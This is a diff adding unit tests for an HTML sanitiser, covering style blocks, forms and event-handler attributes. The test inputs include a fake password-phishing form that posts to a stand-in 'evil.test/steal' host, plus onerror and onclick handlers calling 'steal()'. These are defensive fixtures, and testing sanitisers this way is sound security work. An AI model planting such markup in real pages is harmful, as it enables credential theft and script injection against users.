@@ -45,6 +45,43 @@ describe('sanitising server HTML', () => {
     expect(out).not.toMatch(/script|onerror|onclick|javascript:/);
     expect(sanitizeHtml(null)).toBe('');
   });
+
+  it('drops style sheets with their rules, keeps the text around them', () => {
+    const out = sanitizeHtml(
+      '<p>Read <i>this</i></p><style>body{display:none}</style><div><style>a{}</style>x</div>',
+    );
+    expect(out).not.toMatch(/<style|display:none|a\{\}/);
+    expect(out).toBe('<p>Read <i>this</i></p><div>x</div>');
+  });
+
+  it('drops forms with their inputs and buttons', () => {
+    const out = sanitizeHtml(
+      '<p>Before</p><form action="https://evil.test/steal" method="post"><label>Password <input type="password" name="p"></label><button type="submit">Sign in</button></form><input name="loose"><button>Loose</button><textarea>t</textarea><select><option>o</option></select><p>After</p>',
+    );
+    expect(out).not.toMatch(
+      /<form|<input|<button|<textarea|<select|<option|evil\.test|Sign in|Password|Loose/,
+    );
+    expect(out).toBe('<p>Before</p><p>After</p>');
+  });
+
+  it('drops every event-handler attribute', () => {
+    const handlers = [
+      'onclick',
+      'onerror',
+      'onload',
+      'onmouseover',
+      'onfocus',
+      'onanimationstart',
+      'ONCLICK',
+    ];
+    const out = sanitizeHtml(
+      handlers.map((h, i) => `<a href="/x${i}" ${h}="steal()">link</a>`).join('') +
+        '<img src="a.png" onerror="steal()"><div tabindex="0" onfocusin="steal()">d</div>',
+    );
+    expect(out).not.toMatch(/\son[a-z]+=|steal/i);
+    expect(out).toContain('<a href="/x0">link</a>');
+    expect(out).toContain('<img src="a.png">');
+  });
 });
 
 describe('status labels', () => {
